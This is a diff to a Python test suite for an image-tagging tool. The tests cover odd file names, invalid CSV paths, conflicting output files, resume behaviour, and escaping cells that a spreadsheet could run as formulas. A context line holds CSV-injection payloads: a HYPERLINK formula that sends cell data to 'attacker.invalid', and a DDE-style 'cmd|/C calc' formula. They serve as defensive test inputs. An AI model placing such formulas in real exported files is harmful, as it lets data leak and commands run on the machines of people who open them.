@@ -4,7 +4,10 @@ and CSVs that name this machine's files, resume files of any shape, spreadsheet 
 import csv
 import json
 import os
+import subprocess
+import sys
 import time
+import unicodedata
 from collections import Counter
 from pathlib import Path
 
@@ -12,7 +15,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from catalog import calls, client, results, tag
+from catalog import calls, client, results, sources, tag
+from harness import REPO
 from harness.servers import Quiet, reply, serving
 from lambda_fn.answers import shape_problem
 
@@ -35,6 +39,7 @@ WRONG_SHAPES = {
     "confident-string": json.dumps({**PREDICTION, "confident": "yes"}),
     "error-string": json.dumps({"error": "boom"}),
 }
+PYTHONPATH = {**os.environ, "PYTHONPATH": str(REPO)}
 FORMULAS = {
     "formula-label": '=HYPERLINK("http://attacker.invalid/?d="&A1,"click")',
     "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -270,3 +275,222 @@ def test_the_review_file_holds_the_unsure_rows_and_stays_consistent_on_resume(tm
         tag.main([sure, unsure, "--api", api, "--out", str(out), "--review", str(review), "--resume"])
     assert set(rows_of(out)) == {sure, unsure}
     assert list(rows_of(review)) == [unsure]  # rewritten: only the out file's unsure rows
+
+
+# -- names that are not text, paths no file can have, files in two roles, resume of another format (issue 39) ------
+
+
+def is_utf8(path: Path) -> bool:
+    try:
+        path.read_bytes().decode("utf-8")
+    except UnicodeDecodeError:
+        return False
+    return True
+
+
+file_names = st.binary(min_size=1, max_size=40).filter(
+    # what a file system accepts as a name; a \ could make a name another's escaped spelling (docs/catalog.md)
+    lambda name: b"/" not in name and b"\0" not in name and b"\\" not in name and name not in (b".", b"..")
+)
+
+
+@settings(max_examples=25, deadline=None)
+@given(st.lists(file_names, min_size=1, max_size=4, unique=True), st.sampled_from(list(results.FORMATS)))
+def test_files_named_in_any_bytes_get_one_row_each_and_resume(tmp_path_factory, names, form):
+    """A folder's file names are bytes: one that is not UTF-8 is an error row named with its bytes escaped; the
+    results file stays UTF-8, and --resume (with or without --skip-failed) reads it back and ends with one row each."""
+    folder = tmp_path_factory.mktemp("names")
+    for name in names:
+        (folder / os.fsdecode(name + b".jpg")).write_bytes(b"not a photo")
+    expected = {str(folder / (name + b".jpg").decode("utf-8", "backslashreplace")) for name in names}
+    out = folder / f"tags.{form}"
+    with hostile_api() as api:  # a file upload is answered 400 at once: every file gets a row, fast
+        for resume in ([], ["--resume"], ["--resume", "--skip-failed"]):
+            status = tag.main([str(folder), "--api", api, "--format", form, "--out", str(out), *resume])
+            rows = results.previous_rows(out, form)
+            assert status == (0 if "--skip-failed" in resume else 1)  # every row failed: kept, nothing asked again
+            assert is_utf8(out) and sorted(r["source"] for r in rows) == sorted(expected)
+    for r in rows:
+        utf8 = r["source"] in {str(folder / os.fsdecode(name + b".jpg")) for name in names}
+        assert r["error_code"] == ("http_400" if utf8 else "invalid_input"), r
+        assert utf8 or "is not UTF-8 text: rename the file" in r["error_message"]
+
+
+@pytest.mark.parametrize("form", list(results.FORMATS))
+def test_a_photo_named_in_latin1_beside_good_ones_is_an_error_row_and_the_run_goes_on(
+    tmp_path, image_files, local_server, form
+):
+    folder = tmp_path / "photos"
+    folder.mkdir()
+    for name in ("hat.jpg", "pants.jpg"):
+        (folder / name).write_bytes(image_files[name].read_bytes())
+    (folder / os.fsdecode(b"x\xff.jpg")).write_bytes(image_files["hat.jpg"].read_bytes())
+    out = tmp_path / f"tags.{form}"
+    for resume in ([], ["--resume"]):
+        status = tag.main([str(folder), "--endpoint", local_server, "--format", form, "--out", str(out), *resume])
+        rows = {r["source"]: r for r in results.previous_rows(out, form)}
+        assert status == 1 and is_utf8(out) and len(rows) == 3
+        assert rows[str(folder / "hat.jpg")]["label"] and rows[str(folder / "pants.jpg")]["label"]
+        assert rows[str(folder / "x\\xff.jpg")]["error_code"] == "invalid_input"
+
+
+def test_an_answer_holding_a_lone_surrogate_is_a_bad_answer_not_a_crash(tmp_path):
+    answer = json.loads('{"label": "hat\\ud800", "probability": 0.9, "confident": true, "probabilities": []}')
+    result = results.row("http://127.0.0.1:9/x.jpg", calls.checked(answer), 1)
+    assert result["error_code"] == "bad_answer" and "not Unicode" in result["error_message"]
+    out = tmp_path / "tags.csv"
+    table = results.Table(out, "csv")
+    table.write(result)
+    table.close()
+    assert results.previous_rows(out, "csv") == [result]
+
+
+def test_csv_path_cells_no_file_can_have_are_error_rows_and_the_run_goes_on(tmp_path, image_files, local_server):
+    shop = tmp_path / "shop"
+    shop.mkdir()
+    (shop / "hat.jpg").write_bytes(image_files["hat.jpg"].read_bytes())
+    (shop / "loop.jpg").symlink_to("loop.jpg")
+    table = shop / "catalog.csv"
+    table.write_text('\ufeffurl\n"b\x00.jpg"\nloop.jpg\nhat.jpg\n', encoding="utf-8")  # a spreadsheet's BOM too
+    out = tmp_path / "tags.jsonl"
+    status = tag.main([str(table), "--endpoint", local_server, "--out", str(out)])
+    rows = rows_of(out)
+    assert status == 1 and len(rows) == 3 and rows[str(shop / "hat.jpg")]["label"]
+    assert rows[f"{table}:2"]["error_code"] == "invalid_input" and "null byte" in rows[f"{table}:2"]["error_message"]
+    assert rows[f"{table}:3"]["error_code"] in ("invalid_input", "not_found")
+
+
+cells = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(cells, max_size=6))
+def test_csv_catalogs_of_any_cells_become_sources_never_an_exception(tmp_path_factory, values):
+    """Each cell becomes a URL, a path inside the CSV's folder that the OS can open, or an error row."""
+    table = tmp_path_factory.mktemp("shop") / "catalog.csv"
+    with table.open("w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows([["url"], *([v] for v in values)])
+    for source in sources.read_sources([str(table)], "url"):
+        if source.problem is None and not client.is_url(source.name):
+            assert Path(source.name).resolve().is_relative_to(table.parent.resolve())  # a path the OS takes
+
+
+@pytest.mark.parametrize("spelling", ["sub/../tags.jsonl", "absolute", "symlink", "hard-link", "symlink-first"])
+def test_review_naming_outs_file_by_another_spelling_is_refused(tmp_path, monkeypatch, capsys, spelling):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "sub").mkdir()
+    out = Path("tags.jsonl")
+    if spelling != "symlink-first":  # a run before wrote it; else neither is there yet
+        out.write_text("")
+    review = {"absolute": tmp_path / "tags.jsonl", "sub/../tags.jsonl": Path("sub/../tags.jsonl")}.get(spelling)
+    if review is None:
+        review = Path("review.jsonl")
+        review.hardlink_to(out) if spelling == "hard-link" else review.symlink_to(out)
+    with pytest.raises(SystemExit):
+        tag.parse_args(["x.jpg", "--endpoint", "http://127.0.0.1:9", "--out", str(out), "--review", str(review)])
+    assert "is the same file as --out (tags.jsonl)" in capsys.readouterr().err
+
+
+def test_review_naming_the_file_standard_output_goes_to_is_refused(tmp_path):
+    out = tmp_path / "tags.jsonl"
+    command = [sys.executable, "-m", "catalog.tag", "x.jpg", "--endpoint", "http://127.0.0.1:9", "--review", str(out)]
+    with out.open("w") as stdout:  # python -m catalog.tag ... --review tags.jsonl > tags.jsonl
+        done = subprocess.run(command, stdout=stdout, stderr=subprocess.PIPE, text=True, env=PYTHONPATH, timeout=60)
+    assert done.returncode == 2 and "is the same file as --out (standard output)" in done.stderr
+
+
+def test_results_naming_an_input_are_refused_and_files_of_their_own_are_not(tmp_path, capsys):
+    table = tmp_path / "catalog.csv"
+    table.write_text("url\nhttp://127.0.0.1:9/x.jpg\n")
+    flags = [str(table), "--endpoint", "http://127.0.0.1:9"]
+    with pytest.raises(SystemExit):
+        tag.parse_args([*flags, "--out", str(tmp_path / "." / "catalog.csv")])
+    assert "is the input" in capsys.readouterr().err
+    args = tag.parse_args([*flags, "--out", str(tmp_path / "tags.jsonl"), "--review", str(tmp_path / "review.jsonl")])
+    assert args.out != args.review
+
+
+def written(path: Path, form: str, count: int) -> bytes:
+    """What a run of this format writes for `count` sources (some unsure, one failed)."""
+    table = results.Table(path, form)
+    for k in range(count):
+        answer = {**PREDICTION, "confident": k % 2 == 0} if k else {"error": {"code": "x", "message": "a\nb"}}
+        table.write(results.row(f"http://127.0.0.1:9/fine{k}.jpg", answer, 1))
+    table.close()
+    return path.read_bytes()
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.sampled_from(list(results.FORMATS)), st.data())
+def test_a_file_cut_anywhere_resumes_in_its_own_format_and_is_never_rewritten_in_another(tmp_path_factory, form, data):
+    """A stop can cut the file anywhere: resumed with its own --format it is read back; with another, it is left
+    as it is and the run says which --format it holds."""
+    out = tmp_path_factory.mktemp("cut") / "tags.out"
+    whole = written(out, form, 4)
+    cut = whole[: data.draw(st.integers(1, len(whole)))]
+    other = next(f for f in results.FORMATS if f != form)
+    out.write_bytes(cut)
+    with pytest.raises(results.Unreadable, match=f"resume it with --format {form}"):
+        results.resumed_rows(out, other)
+    assert out.read_bytes() == cut
+    kept = results.resumed_rows(out, form)
+    assert len(kept) <= 4 and all(r["source"].startswith("http://127.0.0.1:9/fine") for r in kept)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.binary(max_size=200) | st.text(max_size=200).map(str.encode), st.sampled_from(list(results.FORMATS)))
+def test_resume_never_rewrites_a_file_it_cannot_read_back_as_rows(tmp_path_factory, content, form):
+    out = tmp_path_factory.mktemp("foreign") / "tags.out"
+    out.write_bytes(content)
+    try:
+        kept = results.resumed_rows(out, form)
+    except results.Unreadable:
+        return
+    text = content.decode("utf-8", "replace")
+    assert kept or results.FIRST_WRITTEN[form].startswith(text) or text.startswith(results.FIRST_WRITTEN[form])
+
+
+@pytest.mark.parametrize("form", list(results.FORMATS))
+def test_resume_with_another_format_refuses_and_leaves_the_file(tmp_path, capsys, form):
+    out = tmp_path / "tags.out"
+    before = written(out, form, 40)
+    other = next(f for f in results.FORMATS if f != form)
+    status = tag.main(
+        ["http://127.0.0.1:9/new.jpg", "--endpoint", "http://127.0.0.1:9", "--out", str(out)]
+        + ["--format", other, "--resume"]
+    )
+    assert status == 2 and out.read_bytes() == before
+    assert f"holds {results.FORMATS[form]} rows" in capsys.readouterr().err
+    out.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))  # someone else's file
+    status = tag.main(["http://127.0.0.1:9/new.jpg", "--endpoint", "http://127.0.0.1:9", "--out", str(out), "--resume"])
+    assert status == 2 and out.read_bytes().startswith(b"\x89PNG") and "left as it is" in capsys.readouterr().err
+
+
+# What leads a cell that a spreadsheet or its importer may skip, and the signs (and look-alikes) that start a formula
+SKIPPED = [" ", "\t", "\r", "\n", "\u00a0", "\ufeff", "\u200b", "\u3000", "\u2028", "\x0b", "\x1f", "\u202e"]
+SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u207a", "\u208c", "\u2212", "\u2013"]
+# the review's cells, written unescaped before: ' =1+1', '\n=1+1', '＝1+1', NBSP, BOM, U+2212 ...
+REVIEWED = [lead + sign + "1+1" for lead in ["", *SKIPPED[:8]] for sign in SIGNS[:2]] + ["\u22121+1", "\uff1d1+1"]
+formulas = st.builds(
+    lambda lead, sign, rest: lead + sign + rest,
+    st.lists(st.sampled_from(SKIPPED) | st.characters(categories=["Zs", "Cc", "Cf"]), max_size=3).map("".join),
+    st.sampled_from(SIGNS) | st.characters().filter(lambda c: unicodedata.normalize("NFKC", c)[:1] in "=+-@"),
+    st.text(max_size=10),
+)
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.sampled_from(REVIEWED) | formulas | cells)
+def test_every_cell_a_spreadsheet_could_run_is_escaped_and_reads_back_exactly(tmp_path_factory, cell):
+    """A cell whose first character a spreadsheet could skip, or whose first sign could start a formula (after
+    NFKC: full-width and other look-alikes), is written behind a '; reading it back drops that ' alone."""
+    escaped = results.spreadsheet_safe(cell)
+    stripped = unicodedata.normalize("NFKC", cell).lstrip(" \t\r\n\u00a0\u3000\ufeff\u200b")
+    if stripped[:1] in ("=", "+", "-", "@", "\u2212") or cell[:1] in SKIPPED or cell.startswith("'"):
+        assert escaped == "'" + cell
+    out = tmp_path_factory.mktemp("cells") / "tags.csv"
+    table = results.Table(out, "csv")
+    written_row = results.row(cell or "x", {"error": {"code": "x", "message": cell}}, 1)
+    table.write(written_row)
+    table.close()
+    assert results.previous_rows(out, "csv") == [written_row]
